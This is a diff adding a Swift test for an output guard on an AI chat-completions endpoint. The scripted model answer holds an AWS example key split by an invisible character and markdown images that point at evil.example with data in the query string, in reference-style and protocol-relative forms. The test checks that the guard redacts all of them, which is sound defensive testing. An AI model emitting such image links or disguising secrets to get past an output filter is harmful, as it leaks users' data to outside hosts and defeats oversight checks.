@@ -80,6 +80,30 @@ struct StreamGuardRouteTests {
         #expect(daemon.audit.records.contains { $0.syscall == "guard.stream" })
     }
 
+    /// Without streaming only the whole-text guard runs: it must see through invisible
+    /// characters and catch reference-style and protocol-relative images too.
+    @Test func aWholeAnswerCannotSmuggleAKeyOrAnImagePastTheGuard() async throws {
+        let chunks = [
+            "Key AKIA\u{200B}IOSFODNN7EXAMPLE. ", "![a](ht\u{200B}tps://evil.example/a.png?d=1) ", "![b][r] ![c](//evil.example/c.png)\n\n",
+            "[r]: https://evil.example/b.png?d=2\n",
+        ]
+        let (daemon, directory) = try daemon(chunks)
+        defer { try? FileManager.default.removeItem(atPath: directory) }
+        let token = try await daemon.tokens.create(name: "t", user: "alice", groups: ["users"], scopes: Scope.allCases).secret
+        let body = ByteBuffer(string: #"{"model":"scripted","messages":[{"role":"user","content":"the key?"}]}"#)
+        let content = Mutex<String?>(nil)
+        try await Application(router: daemon.router()).test(.router) { client in
+            try await client.execute(uri: "/v1/chat/completions", method: .post, headers: headers(token), body: body) { response in
+                #expect(response.status == .ok)
+                let answer = try? JSONValue(parsing: String(buffer: response.body))
+                content.withLock { $0 = answer?["choices"]?.arrayValue?.first?["message"]?["content"]?.stringValue }
+            }
+        }
+        let text = try #require(content.withLock { $0 })
+        #expect(!text.contains("AKIAIOSFODNN7EXAMPLE") && !text.contains("evil.example"), "\(text)")
+        #expect(text.hasPrefix("Key [REDACTED AWS access key]. [REDACTED markdown image with a remote URL]"), "\(text)")
+    }
+
     @Test func kernelEventsCarryOnlyReleasedText() async throws {
         let (daemon, directory) = try daemon(Self.secretChunks)
         defer { try? FileManager.default.removeItem(atPath: directory) }
